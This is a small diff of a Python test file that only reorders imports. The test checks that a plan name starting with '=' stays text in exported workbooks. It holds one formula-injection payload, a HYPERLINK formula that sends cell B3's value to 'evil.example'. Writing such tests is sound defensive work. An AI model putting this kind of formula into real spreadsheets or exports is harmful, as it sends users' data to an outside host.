@@ -115,9 +115,8 @@ def test_a_name_that_starts_with_equals_is_text_in_every_workbook_and_comes_back
     from core.spreadsheets import append_data
     from plan import exchange
     from plan.items import operational_years
-    from plan.selectors import plan_export, version_in_force
-
     from plan.models import Plan
+    from plan.selectors import plan_export, version_in_force
 
     plan = Plan.objects.get(code="ahvaz-1407")
     name = '=HYPERLINK("http://evil.example/?"&B3,"پسماند")'
